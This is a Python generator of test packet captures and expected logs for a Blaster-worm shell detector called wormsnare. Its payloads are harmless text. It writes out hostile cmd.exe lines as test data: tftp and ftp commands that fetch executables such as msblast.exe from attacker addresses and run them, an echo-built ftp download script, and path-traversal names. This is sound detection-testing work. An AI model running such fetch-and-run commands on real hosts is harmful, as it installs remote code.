#!/usr/bin/python3
"""Generate wormsnare's sample captures and the event logs they must produce.

    /usr/bin/python3 pcaps/gen.py [OUTDIR]      (default: the folder of this script)

Every capture is built from the sessions below with fixed addresses, ports,
sequence numbers and timestamps, so a rerun writes the same bytes. For each
capture NAME it writes NAME.pcap (NAME.pcapng for the pcapng sample) and
NAME.tsv, the expected blasterlog.txt of `wormsnare -r NAME.pcap` into a
fresh output directory, derived from what the script planted, not from a
run of wormsnare. Payloads served over TFTP are generated text, never
malware; their MD5/SHA-256 go to NAME.files.
"""
import hashlib
import socket
import os
import subprocess
import sys

from scapy.all import IP, TCP, UDP, CookedLinux, Dot1AD, Dot1Q, Ether, Raw, wrpcap
from scapy.contrib.mpls import MPLS

HEADER = ("EventID\tTime\tSourceIP\tFileName\tSourcePort\tDestIP\tDestPort\t"
          "Action\tServer\tFetch")
T0 = 1061301600.0            # 2003-08-19T14:00:00Z
ATTACKER = "81.132.114.254"
VICTIM = "10.0.0.5"
BANNER = (b"Microsoft Windows XP [Version 5.1.2600]\r\n"
          b"(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>")


def iso(t):
    import datetime
    sec = int(t)
    usec = int(round((t - sec) * 1e6))
    if usec == 1000000:
        sec, usec = sec + 1, 0
    d = datetime.datetime.fromtimestamp(sec, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + ".%06dZ" % usec


def escape(s):
    out = []
    for i, ch in enumerate(s.encode("latin-1")):
        if (0x20 <= ch <= 0x7e and ch != 0x5c) and not (i == 0 and ch == 0x23):
            out.append(chr(ch))
        else:
            out.append("\\x%02x" % ch)
    return "".join(out)


def name_usable(name):
    """What the fetcher accepts: 1..255 bytes, no control byte."""
    raw = name.encode("latin-1")
    return 0 < len(raw) <= 255 and all(b >= 0x20 and b != 0x7f for b in raw)


def payload(name, size):
    """A harmless, recognisable file of the given size."""
    seed = ("WORMSNARE-TEST-PAYLOAD %s " % name).encode()
    return (seed * (size // len(seed) + 1))[:size]


class Capture:
    """Packets with timestamps, and the events they must produce."""

    def __init__(self):
        self.pkts = []
        self.events = []      # (time, src, sport, dst, dport, action, file, server)
        self.files = []       # (name, bytes)
        self.keep_order = False

    def add(self, pkt, t):
        pkt.time = t
        self.pkts.append(pkt)

    def expect(self, t, sess, action, file, server=""):
        self.events.append((t, sess.cli, sess.cport, sess.srv, sess.sport, action, file, server))

    def expect_at(self, t, attacker, aport, victim, vport, action, file, server=""):
        """An event whose SourceIP/Port is the attacker, whichever side opened."""
        self.events.append((t, attacker, aport, victim, vport, action, file, server))

    def sorted_pkts(self):
        if self.keep_order:
            return list(self.pkts)
        return sorted(self.pkts, key=lambda p: float(p.time))

    def tsv(self):
        rows = [HEADER]
        for i, (t, src, sport, dst, dport, action, file, server) in enumerate(
                sorted(self.events, key=lambda e: e[0]), 1):
            fetch = ""
            if action in ("get", "ftp-get"):
                fetch = "disabled" if name_usable(file) else "invalid-name"
            rows.append("\t".join([str(i), iso(t), src, escape(file), str(sport), dst,
                                   str(dport), action, escape(server), fetch]))
        return "\n".join(rows) + "\n"


class Session:
    """One TCP connection from the attacker (client) to the victim's shell."""

    def __init__(self, cap, cli=ATTACKER, cport=1234, srv=VICTIM, sport=4444, isn=1000000,
                 sisn=5000000, t=T0, l2=None):
        self.cap, self.cli, self.cport, self.srv, self.sport = cap, cli, cport, srv, sport
        self.cseq, self.sseq, self.t = isn + 1, sisn + 1, t
        self.isn, self.sisn = isn, sisn
        self.l2 = l2 or (lambda p: Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66") / p)
        self.ipid = 100

    def tick(self, dt=0.01):
        self.t += dt
        return self.t

    def _ip(self, from_client, ttl=None):
        self.ipid += 1
        if from_client:
            return IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=ttl or 113)
        return IP(src=self.srv, dst=self.cli, id=self.ipid + 5000, ttl=ttl or 128)

    def seg(self, from_client, flags, data=b"", seq=None, t=None, chksum=None, ttl=None,
            ack=None, window=None, ipchksum=None):
        if ack is None:
            ack = 0 if flags == "S" else (self.sseq if from_client else self.cseq)
        tcp = TCP(sport=self.cport if from_client else self.sport,
                  dport=self.sport if from_client else self.cport, flags=flags,
                  seq=seq if seq is not None else (self.cseq if from_client else self.sseq),
                  ack=ack, window=window if window is not None else 64240)
        if chksum is not None:
            tcp.chksum = chksum
        ip = self._ip(from_client, ttl)
        if ipchksum is not None:
            ip.chksum = ipchksum
        pkt = ip / tcp
        if data:
            pkt = pkt / Raw(data)
        self.cap.add(self.l2(pkt), t if t is not None else self.tick())
        return pkt

    def handshake(self):
        self.seg(True, "S", seq=self.isn)
        self.seg(False, "SA", seq=self.sisn)
        self.seg(True, "A")
        self.server(BANNER)

    def server(self, data):
        self.seg(False, "PA", data)
        self.sseq += len(data)
        self.seg(True, "A")

    def send(self, data, chunk=None):
        """Client data, in segments of chunk bytes; returns the time of each LF."""
        data = data.encode("latin-1") if isinstance(data, str) else data
        chunk = chunk or len(data)
        times = []
        for i in range(0, len(data), chunk):
            part = data[i:i + chunk]
            self.seg(True, "PA", part)
            self.cseq += len(part)
            times += [self.t] * part.count(b"\n")
        return times

    def line(self, text, events=(), chunk=None):
        """Send text plus LF; expect events = [(action, file, server)] at the LF's time."""
        (t,) = self.send(text + "\n", chunk)[-1:]
        for action, file, *server in events:
            self.cap.expect(t, self, action, file, server[0] if server else "")
        self.server(b"\r\nC:\\WINDOWS\\system32>")
        return t

    def close(self):
        self.seg(True, "FA")
        self.cseq += 1
        t = self.t
        self.seg(False, "FA")
        self.sseq += 1
        self.seg(True, "A")
        return t

    def reset(self):
        self.seg(True, "R")


def tftp_download(cap, client, server, name, data, t, cport=1030, tid=3012, blksize=None,
                  l2=None, retransmit=None, swap=None, stop_after=None):
    """The victim's RRQ to the attacker's UDP 69, answered from a new port (TID)."""
    l2 = l2 or (lambda p: Ether(src="00:0c:29:44:55:66", dst="00:0c:29:11:22:33") / p)
    opts = b""
    if blksize:
        opts = b"blksize\x00%d\x00tsize\x000\x00" % blksize
    cap.add(l2(IP(src=client, dst=server) / UDP(sport=cport, dport=69) /
               Raw(b"\x00\x01" + name.encode() + b"\x00octet\x00" + opts)), t)
    size = blksize or 512
    if blksize:
        t += 0.002
        cap.add(l2(IP(src=server, dst=client) / UDP(sport=tid, dport=cport) /
                   Raw(b"\x00\x06blksize\x00%d\x00tsize\x00%d\x00" % (blksize, len(data)))), t)
        t += 0.002
        cap.add(l2(IP(src=client, dst=server) / UDP(sport=cport, dport=tid) /
                   Raw(b"\x00\x04\x00\x00")), t)
    blocks = [data[i:i + size] for i in range(0, len(data) + 1, size)]
    if len(data) % size:
        blocks = blocks[:-1] if blocks[-1] == b"" else blocks
    order = list(range(len(blocks)))
    if swap is not None:
        order[swap], order[swap + 1] = order[swap + 1], order[swap]
    for n, i in enumerate(order):
        if stop_after is not None and n >= stop_after:
            break
        blk = (i + 1) & 0xffff
        t += 0.003
        cap.add(l2(IP(src=server, dst=client) / UDP(sport=tid, dport=cport) /
                   Raw(b"\x00\x03" + blk.to_bytes(2, "big") + blocks[i])), t)
        if retransmit == i:
            t += 0.5
            cap.add(l2(IP(src=server, dst=client) / UDP(sport=tid, dport=cport) /
                       Raw(b"\x00\x03" + blk.to_bytes(2, "big") + blocks[i])), t)
        t += 0.001
        cap.add(l2(IP(src=client, dst=server) / UDP(sport=cport, dport=tid) /
                   Raw(b"\x00\x04" + blk.to_bytes(2, "big"))), t)
    cap.files.append((name, data))
    return t


def blaster(cap, l2=None, tftp=True, **kw):
    """The msblast sequence: GET, transfer, start, bare run, close."""
    s = Session(cap, l2=l2, **kw)
    s.handshake()
    s.line("tftp -i %s GET msblast.exe" % s.cli, [("get", "msblast.exe", s.cli)])
    if tftp:
        s.t = tftp_download(cap, s.srv, s.cli, "msblast.exe", payload("msblast", 6176),
                            s.t + 0.05, l2=l2)
    s.server(b"Transfer successful: 6176 bytes in 1 second, 6176 bytes/s\r\n")
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.line("msblast.exe", [("exec", "msblast.exe")])
    s.close()
    return s


# ------------------------------------------------------------------- cases

def case_blaster_basic():
    cap = Capture()
    blaster(cap)
    return cap


def case_split_segments():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)],
           chunk=2)
    s.line("start msblast.exe", [("start", "msblast.exe")], chunk=1)
    s.close()
    return cap


def case_out_of_order():
    cap = Capture()
    s = Session(cap)
    s.seg(True, "S", seq=s.isn)
    s.seg(False, "SA", seq=s.sisn)
    s.seg(True, "A")
    text = b"tftp -i 81.132.114.254 GET teekids.exe\nstart teekids.exe\n"
    parts = [text[0:10], text[10:25], text[25:40], text[40:]]
    base = s.cseq
    offs = [0, 10, 25, 40]
    # the first data segment arrives after a later one; the last before the third
    for i in (1, 0, 3, 2):
        s.seg(True, "PA", parts[i], seq=base + offs[i])
    t_fill = s.t        # segment 2 fills the last hole: both lines complete now
    s.cseq = base + len(text)
    cap.expect(t_fill, s, "get", "teekids.exe", ATTACKER)
    cap.expect(t_fill, s, "start", "teekids.exe")
    s.seg(False, "A")
    s.close()
    return cap


def case_ip_fragments():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = b"tftp -i 81.132.114.254 GET msblast.exe\n"
    ip = s._ip(True) / TCP(sport=s.cport, dport=s.sport, flags="PA", seq=s.cseq, ack=s.sseq,
                           window=64240) / Raw(text)
    ip = IP(bytes(ip))
    raw = bytes(ip[TCP])
    frags = []
    for off in range(0, len(raw), 16):
        chunk = raw[off:off + 16]
        mf = 1 if off + 16 < len(raw) else 0
        frags.append(IP(src=s.cli, dst=s.srv, id=ip.id, proto=6, flags=mf, frag=off // 8,
                        ttl=113) / Raw(chunk))
    order = [0, 2, 1] + list(range(3, len(frags)))
    order[-1], order[-2] = order[-2], order[-1]     # the last fragment before the one before
    for i in order:
        cap.add(s.l2(frags[i]), s.tick())
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.cseq += len(text)
    s.seg(False, "A")
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def vlan_l2(*tags):
    def wrap(p):
        frame = Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66")
        for kind, vid in tags:
            frame = frame / (Dot1AD(vlan=vid) if kind == "ad" else Dot1Q(vlan=vid))
        return frame / p
    return wrap


def case_vlan():
    cap = Capture()
    blaster(cap, l2=vlan_l2(("q", 100)), tftp=False)
    return cap


def case_qinq():
    cap = Capture()
    blaster(cap, l2=vlan_l2(("ad", 200), ("q", 100)), tftp=False)
    return cap


def encap_l2(vlans, labels):
    """Ethernet, 802.1Q/QinQ tags (outermost first), then MPLS labels, then IPv4."""
    def wrap(p):
        types = [0x8100 if kind == "q" else 0x88a8 for kind, _ in vlans[1:]]
        types.append(0x8847 if labels else 0x0800)
        outer = (0x8100 if vlans[0][0] == "q" else 0x88a8) if vlans else types[-1]
        frame = Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66", type=outer)
        for (kind, vid), nxt in zip(vlans, types):
            frame = frame / Dot1Q(vlan=vid, type=nxt)
        for i, label in enumerate(labels):
            frame = frame / MPLS(label=label, s=1 if i == len(labels) - 1 else 0, ttl=64)
        return frame / p
    return wrap


def case_encapsulations():
    """Six sessions: plain, 802.1Q, QinQ, MPLS, 802.1Q + two MPLS labels, and a plain one to
    another victim; live and offline must log the same, with and without capture.filter."""
    cap = Capture()
    kinds = [([], []), ([("q", 100)], []), ([("ad", 200), ("q", 100)], []), ([], [16]),
             ([("q", 100)], [17, 18])]
    for i, (vlans, labels) in enumerate(kinds):
        blaster(cap, l2=encap_l2(vlans, labels), tftp=False, cport=1301 + i, t=T0 + 2 * i)
    blaster(cap, tftp=False, cport=1306, srv="10.0.0.9", t=T0 + 10)
    return cap


def case_nat():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 10.1.2.34 GET msblast.exe", [("get", "msblast.exe", "10.1.2.34")])
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def fanout_member(a, b, n=2):
    """The worker wormsnare's PACKET_FANOUT program hands a packet between a and b
    (capture/capture.c: Fibonacci hash of src ^ dst, upper 16 bits, mod n)."""
    x = int.from_bytes(socket.inet_aton(a), "big") ^ int.from_bytes(socket.inet_aton(b), "big")
    return (((x * 0x9e3779b1) & 0xffffffff) >> 16) % n


def case_workers_split():
    """Four shells whose address pairs fall to both of two capture workers; the first
    names a third host for its TFTP transfer, which falls to the other worker than
    the session: that worker must still name the carved file after the event."""
    cap = Capture()
    pairs = [("81.132.114.254", "10.0.0.5"), ("62.30.7.11", "10.0.0.21"),
             ("200.40.1.9", "10.0.0.22"), ("24.5.66.7", "10.0.0.23")]
    members = {fanout_member(a, v) for a, v in pairs}
    assert members == {0, 1}, members
    a0, v0 = pairs[0]
    host = next("10.1.2.%d" % i for i in range(34, 250)
                if fanout_member(v0, "10.1.2.%d" % i) != fanout_member(a0, v0))
    for k, (a, v) in enumerate(pairs):
        s = Session(cap, cli=a, cport=1500 + k, srv=v, t=T0 + 0.4 * k)
        s.handshake()
        name = "split%d.exe" % k
        src = host if k == 0 else a
        s.line("tftp -i %s GET %s" % (src, name), [("get", name, src)])
        s.t = tftp_download(cap, v, src, name, payload(name, 1500 + 700 * k), s.t + 0.05,
                            cport=1100 + k, tid=3100 + k)
        s.line("start %s" % name, [("start", name)])
        s.close()
    return cap


def case_variants():
    cap = Capture()
    a = Session(cap, cli="62.30.7.11", cport=2001, srv="10.0.0.21", t=T0)
    b = Session(cap, cli="200.40.1.9", cport=3001, srv="10.0.0.22", t=T0 + 10)
    c = Session(cap, cli="24.5.66.7", cport=4001, srv="10.0.0.23", t=T0 + 20)
    a.handshake()
    a.line("tftp -i 62.30.7.11 GET teekids.exe\r", [("get", "teekids.exe", "62.30.7.11")])
    a.line("start teekids.exe\r", [("start", "teekids.exe")])
    a.line("teekids.exe\r", [("exec", "teekids.exe")])
    a.close()
    b.handshake()
    b.line("TFTP -I 200.40.1.9 GET MSLAUGH.EXE", [("get", "MSLAUGH.EXE", "200.40.1.9")])
    b.line("START MSLAUGH.EXE", [("start", "MSLAUGH.EXE")])
    b.close()
    c.handshake()
    c.line("tftp\t-i   24.5.66.7\t\tGET   penis32.exe  ", [("get", "penis32.exe", "24.5.66.7")])
    c.line("   penis32.exe", [("exec", "penis32.exe")])
    c.close()
    return cap


def case_http_noise():
    cap = Capture()
    s = Session(cap, sport=80)
    s.seg(True, "S", seq=s.isn)
    s.seg(False, "SA", seq=s.sisn)
    s.seg(True, "A")
    s.send("POST /notes HTTP/1.0\r\nContent-Length: 62\r\n\r\n"
           "tftp -i 1.2.3.4 GET msblast.exe\nstart msblast.exe\nmsblast.exe\n")
    s.server(b"HTTP/1.0 200 OK\r\n\r\ntftp -i 1.2.3.4 GET msblast.exe\n")
    s.close()
    return cap


def case_interleaved():
    cap = Capture()
    ss = [Session(cap, cli="81.132.114.%d" % (10 + i), cport=1100 + i,
                  srv="10.0.0.%d" % (30 + i), t=T0 + i * 0.003) for i in range(3)]
    for s in ss:
        s.handshake()
    names = ["msblast.exe", "teekids.exe", "mslaugh.exe"]
    # each session types its GET in three pieces; the pieces interleave
    lines = ["tftp -i %s GET %s\n" % (s.cli, n) for s, n in zip(ss, names)]
    for k in range(3):
        for i, s in enumerate(ss):
            piece = lines[i][k * 12:(k + 1) * 12] if k < 2 else lines[i][24:]
            s.t = max(x.t for x in ss) + 0.001
            times = s.send(piece)
            if times:
                cap.expect(times[-1], s, "get", names[i], s.cli)
    for s, n in zip(ss, names):
        s.t = max(x.t for x in ss) + 0.001
        s.line(n, [("exec", n)])
    for s in ss:
        s.t = max(x.t for x in ss) + 0.001
        s.close()
    return cap


def case_midstream():
    cap = Capture()
    s = Session(cap)
    # the capture starts after the handshake and the banner
    s.sseq += len(BANNER)
    s.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_retransmit():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = b"tftp -i 81.132.114.254 GET msblast.exe\n"
    base = s.cseq
    s.seg(True, "PA", text[:20], seq=base, chksum=0xdead)       # bad checksum, first copy
    s.seg(True, "PA", text[:20], seq=base)                      # good retransmission
    s.seg(True, "PA", text[10:], seq=base + 10)                 # overlaps, completes the line
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.seg(True, "PA", text[10:], seq=base + 10)                 # exact duplicate
    s.cseq = base + len(text)
    s.seg(False, "A")
    t = s.line("start msblast.exe", [("start", "msblast.exe")])
    s.seg(True, "PA", b"start msblast.exe\n", seq=s.cseq - 18)  # late duplicate
    del t
    s.close()
    return cap


def case_close_vs_reset():
    cap = Capture()
    f = Session(cap, cport=1500)
    f.handshake()
    f.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    f.send("msblast.exe")                       # no LF: cmd.exe runs it at end of input
    t_fin = f.close()
    # run at end of input: logged when the connection has ended, at the victim's FIN one tick later
    cap.expect(t_fin + 0.01, f, "exec", "msblast.exe")
    r = Session(cap, cport=1501, t=f.t + 1)
    r.handshake()
    r.send("start x.exe")                       # no LF, then the connection is reset
    r.reset()
    return cap


def case_chained():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 10.120.57.149 GET h3110.411 package.exe & package.exe & exit",
           [("get", "h3110.411", "10.120.57.149"), ("exec", "package.exe")])
    s.line("cmd /c tftp -i 1.2.3.4 GET a.exe", [("get", "a.exe", "1.2.3.4")])
    s.line('start "" /b a.exe', [("start", "a.exe")])
    s.close()
    return cap


def case_overlong():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.send(b"A" * 5000 + b"\n", chunk=1400)
    s.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    s.close()
    return cap


def case_hostile_names():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 81.132.114.254 GET ..\\..\\windows\\x.exe",
           [("get", "..\\..\\windows\\x.exe", ATTACKER)])
    s.line("tftp -i 81.132.114.254 GET #x\xff.exe", [("get", "#x\xff.exe", ATTACKER)])
    s.line("start a\\b.exe", [("start", "a\\b.exe")])
    s.close()
    return cap


def case_tftp_variants():
    """Transfers seen on the wire, each answering a GET from its own session."""
    cap = Capture()
    t = T0
    kinds = [
        ("plain.exe", 2048, {}),                       # exact multiple: empty last block
        ("oack.exe", 5000, {"blksize": 1428}),         # options negotiated
        ("retrans.exe", 3000, {"retransmit": 2}),      # block 3 sent twice
        ("reorder.exe", 3000, {"swap": 1}),            # blocks 2 and 3 swapped
        ("unfinished.exe", 4000, {"stop_after": 3}),   # the rest never comes
        ("missing.exe", 0, {"error": True}),           # ERROR 1 instead of data
    ]
    for k, (name, size, opt) in enumerate(kinds):
        s = Session(cap, cli="81.132.114.%d" % (20 + k), cport=1300 + k,
                    srv="10.0.0.%d" % (40 + k), t=t)
        s.handshake()
        s.line("tftp -i %s GET %s" % (s.cli, name), [("get", name, s.cli)])
        if opt.get("error"):
            l2 = lambda p: Ether(src="00:0c:29:44:55:66", dst="00:0c:29:11:22:33") / p
            cap.add(l2(IP(src=s.srv, dst=s.cli) / UDP(sport=1031, dport=69) /
                       Raw(b"\x00\x01" + name.encode() + b"\x00octet\x00")), s.tick())
            cap.add(l2(IP(src=s.cli, dst=s.srv) / UDP(sport=3100, dport=1031) /
                       Raw(b"\x00\x05\x00\x01File not found\x00")), s.tick())
        else:
            data = payload(name, size)
            s.t = tftp_download(cap, s.srv, s.cli, name, data, s.t + 0.05, cport=1031 + k,
                                tid=3100 + k, blksize=opt.get("blksize"),
                                retransmit=opt.get("retransmit"), swap=opt.get("swap"),
                                stop_after=opt.get("stop_after"))
            if opt.get("stop_after") is not None:
                cap.files.pop()                        # never complete: nothing stored
        s.close()
        t = s.t + 1
    return cap


# --------------------------------------------------------- shells (issue 11)

PROMPT = b"\r\nC:\\WINDOWS\\system32>"


class Shell:
    """A cmd.exe shell over TCP on any port, bind or reverse.

    The attacker types lines; the victim prints the banner, then after each
    line the echo cmd.exe gives a piped stdin (the command again), its
    output and a prompt. reverse=True: the victim opened the connection (a
    reverse shell), so the TCP client is the victim. Events are expected
    with SourceIP/Port = attacker, DestIP/Port = victim either way.
    """

    def __init__(self, cap, attacker=ATTACKER, aport=1234, victim=VICTIM, vport=4444,
                 reverse=False, t=T0, aisn=7000000, visn=9000000):
        self.cap, self.t = cap, t
        self.attacker, self.aport, self.victim, self.vport = attacker, aport, victim, vport
        self.reverse = reverse
        self.seq = {"a": aisn + 1, "v": visn + 1}
        self.isn = {"a": aisn, "v": visn}
        self.ipid = {"a": 300, "v": 7000}

    def tick(self, dt=0.01):
        self.t += dt
        return self.t

    def _seg(self, who, flags, data=b"", seq=None):
        other = "v" if who == "a" else "a"
        src, sport = (self.attacker, self.aport) if who == "a" else (self.victim, self.vport)
        dst, dport = (self.victim, self.vport) if who == "a" else (self.attacker, self.aport)
        self.ipid[who] += 1
        tcp = TCP(sport=sport, dport=dport, flags=flags,
                  seq=seq if seq is not None else self.seq[who],
                  ack=0 if flags == "S" else self.seq[other], window=64240)
        pkt = IP(src=src, dst=dst, id=self.ipid[who], ttl=113 if who == "a" else 128) / tcp
        if data:
            pkt = pkt / Raw(data)
        self.cap.add(Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66") / pkt, self.tick())

    def open(self):
        opener, other = ("v", "a") if self.reverse else ("a", "v")
        self._seg(opener, "S", seq=self.isn[opener])
        self._seg(other, "SA", seq=self.isn[other])
        self._seg(opener, "A")

    def data(self, who, data, chunk=None):
        data = data.encode("latin-1") if isinstance(data, str) else data
        chunk = chunk or len(data)
        for i in range(0, len(data), chunk):
            part = data[i:i + chunk]
            self._seg(who, "PA", part)
            self.seq[who] += len(part)
        self._seg("v" if who == "a" else "a", "A")
        return self.t

    def victim_says(self, data):
        return self.data("v", data)

    def type(self, line, events=(), output=b"", chunk=None, echo=True, prompt=PROMPT):
        """The attacker types line + LF; events [(action, file, server)] at its last segment."""
        raw = line.encode("latin-1") if isinstance(line, str) else line
        data = raw + b"\n"
        chunk = chunk or len(data)
        for i in range(0, len(data), chunk):
            part = data[i:i + chunk]
            self._seg("a", "PA", part)
            self.seq["a"] += len(part)
        t = self.t
        for action, file, *server in events:
            self.cap.expect_at(t, self.attacker, self.aport, self.victim, self.vport, action,
                               file, server[0] if server else "")
        reply = (raw + b"\r\n" if echo else b"") + output + (prompt or b"")
        if reply:
            self.victim_says(reply)
        return t

    def close(self):
        closer, other = ("a", "v")
        self._seg(closer, "FA")
        self.seq[closer] += 1
        self._seg(other, "FA")
        self.seq[other] += 1
        self._seg(closer, "A")


def stage_bytes(n):
    """Deterministic bytes standing for a stager's stage (not code: a counter hash)."""
    return bytes(hashlib.sha256(b"stage%d" % i).digest()[0] for i in range(n))


def case_shell_reverse():
    """The victim connects out to the attacker's 1225; the attacker uses ftp -A."""
    cap = Capture()
    sh = Shell(cap, aport=1225, vport=1042, reverse=True)
    sh.open()
    sh.victim_says(BANNER)
    sh.type("ftp -A 192.168.1.10", output=b"Connected to 192.168.1.10.\r\n220 FTP ready\r\n"
            b"331 Anonymous access allowed.\r\n230 Logged in.\r\nftp> ", prompt=None)
    sh.type("get sqlite3.exe", [("ftp-get", "sqlite3.exe", "192.168.1.10")], echo=False,
            output=b"200 PORT command successful.\r\n150 Opening BINARY mode data connection.\r\n"
            b"226 Transfer complete.\r\nftp: 455168 bytes received\r\nftp> ", prompt=None)
    sh.type("bye", echo=False, output=b"221 Goodbye.\r\n")
    sh.type('sqlite3 db "select 1"', [("exec", "sqlite3")], output=b"1\r\n")
    sh.close()
    return cap


def case_shell_port_banner():
    """A bind shell on 9988, found by its banner; one name is unusable."""
    cap = Capture()
    sh = Shell(cap, aport=1300, vport=9988)
    sh.open()
    sh.victim_says(BANNER)
    sh.type("tftp -i 81.132.114.254 GET svc.exe", [("get", "svc.exe", ATTACKER)],
            output=b"Transfer successful: 6176 bytes in 1 second, 6176 bytes/s\r\n")
    sh.type("start svc.exe", [("start", "svc.exe")])
    sh.type("tftp -i 81.132.114.254 GET bad\x01name.exe", [("get", "bad\x01name.exe", ATTACKER)],
            output=b"Error on server : File not found\r\n")
    sh.close()
    return cap


def case_shell_midstream_prompt():
    """Picked up mid-stream on 5555: the first bytes seen end in the victim's prompt."""
    cap = Capture()
    sh = Shell(cap, aport=1350, vport=5555)
    sh.seq["a"] += 120          # no handshake, no banner: both sides already talked
    sh.seq["v"] += 800
    sh.victim_says(b" Volume in drive C has no label.\r\n Volume Serial Number is 98E6-D565\r\n"
                   b"\r\n Directory of C:\\WINDOWS\\system32\r\n\r\n" + PROMPT)
    sh.type("tftp -i 81.132.114.254 GET mid.exe", [("get", "mid.exe", ATTACKER)],
            output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
    sh.type("mid.exe", [("exec", "mid.exe")])
    sh.close()
    return cap


def case_shell_ftp_echo():
    """The forensic-challenge bot on 1957: a shell that prints two newlines, an echo script."""
    cap = Capture()
    sh = Shell(cap, aport=1400, vport=1957)
    sh.open()
    sh.victim_says(b"\n\n")
    sh.type("echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o &"
            "echo quit >> o &ftp -n -s:o &del /F /Q o &ssms.exe",
            [("ftp-get", "ssms.exe", "0.0.0.0:8884"), ("exec", "ssms.exe")],
            echo=False, prompt=None)
    sh.close()
    return cap


def case_shell_ftp_interactive():
    """Typed into ftp.exe: login prompts, get with a local name, then open HOST PORT."""
    cap = Capture()
    sh = Shell(cap, aport=1500, vport=4444)
    sh.open()
    sh.victim_says(BANNER)
    sh.type("ftp 5.6.7.8", output=b"Connected to 5.6.7.8.\r\n220 FTP ready\r\nUser (5.6.7.8:(none)): ",
            prompt=None)
    sh.type("bob", echo=False, output=b"\r\n331 Password required for bob.\r\nPassword:", prompt=None)
    sh.type("secret", echo=False, output=b"\r\n230 User bob logged in.\r\nftp> ", prompt=None)
    sh.type("bin", echo=False, output=b"200 Type set to I.\r\nftp> ", prompt=None)
    sh.type("get a.exe c:\\a.exe", [("ftp-get", "a.exe", "5.6.7.8")], echo=False,
            output=b"226 Transfer complete.\r\nftp> ", prompt=None)
    sh.type("quit", echo=False, output=b"221 Goodbye.\r\n")
    sh.type("c:\\a.exe", [("exec", "c:\\a.exe")])
    sh.type("ftp", output=b"ftp> ", prompt=None)
    sh.type("open 5.6.7.9 2121", echo=False,
            output=b"Connected to 5.6.7.9.\r\n220 FTP ready\r\nUser (5.6.7.9:(none)): ", prompt=None)
    sh.type("u", echo=False, output=b"\r\n331 Password required.\r\nPassword:", prompt=None)
    sh.type("p", echo=False, output=b"\r\n230 Logged in.\r\nftp> ", prompt=None)
    sh.type("get b.exe", [("ftp-get", "b.exe", "5.6.7.9:2121")], echo=False,
            output=b"226 Transfer complete.\r\nftp> ", prompt=None)
    sh.type("bye", echo=False, output=b"221 Goodbye.\r\n")
    sh.close()
    return cap


def case_shell_long_line():
    """A 5000-byte line, then a 9000-byte one (cmd.exe reads 8191: KB830473)."""
    cap = Capture()
    sh = Shell(cap, aport=1600, vport=4444)
    sh.open()
    sh.victim_says(BANNER)
    tail = " & tftp -i 81.132.114.254 GET five.exe"
    line = "echo " + "x" * (5000 - 5 - len(tail)) + tail
    assert len(line) == 5000
    sh.type(line, [("get", "five.exe", ATTACKER)], chunk=1400)
    cmd = "tftp -i 81.132.114.254 GET cut.exe"
    line = " " * 8000 + cmd + " " * (9000 - 8000 - len(cmd))
    sh.type(line, [("get", "cut.exe", ATTACKER)], chunk=1400)   # the first 8191 bytes run
    sh.type("start five.exe", [("start", "five.exe")])
    sh.close()
    return cap


def staged_shell(sh, stage_len, name):
    """A Metasploit-style stager session: 4 bytes of length and the stage from the
    attacker, then the victim's banner, a GET of name and a run of it."""
    sh.open()
    stage = stage_bytes(stage_len)
    sh.data("a", len(stage).to_bytes(4, "little"))
    sh.data("a", stage, chunk=1460)
    sh.victim_says(BANNER)
    sh.type("tftp -i 81.132.114.254 GET " + name, [("get", name, ATTACKER)],
            output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
    sh.type(name, [("exec", name)])
    sh.close()


def case_shell_stager():
    """A reverse shell on 4321: a 240-byte stage, then the banner."""
    cap = Capture()
    staged_shell(Shell(cap, aport=4321, vport=1032, reverse=True), 240, "stage2.exe")
    return cap


def case_shell_stager_long():
    """A bind shell on 5555 whose 3000-byte stage (over the screening window) comes
    before the victim's banner: screening waits until the victim speaks."""
    cap = Capture()
    staged_shell(Shell(cap, aport=1101, vport=5555), 3000, "stage3.exe")
    return cap


def lost_in_line(sh, before, lost, after):
    """The attacker sends before, then lost (never captured), then after; the
    victim ACKs all of it: the line it read is not one the capture holds."""
    if before:
        sh.data("a", before)
    sh.seq["a"] += len(lost)
    sh.data("a", after)


def case_capture_loss():
    """Capture loss inside typed lines: a segment the victim ACKed was never
    captured. The line it cut is dropped, not guessed (the victim ran GET
    evilx.exe, not x.exe); the next lines run. On 4444 (followed from the
    start), on 7777, where the hole falls while the flow is still screened, and
    on 4444 again with the session's very first bytes lost."""
    cap = Capture()
    sh = Shell(cap, aport=1201, vport=4444)
    sh.open()
    sh.victim_says(BANNER + PROMPT)
    lost_in_line(sh, "tftp -i 81.132.114.254 GET ", "evil", "x.exe\n")
    sh.type("tftp -i 81.132.114.254 GET ok.exe", [("get", "ok.exe", ATTACKER)])
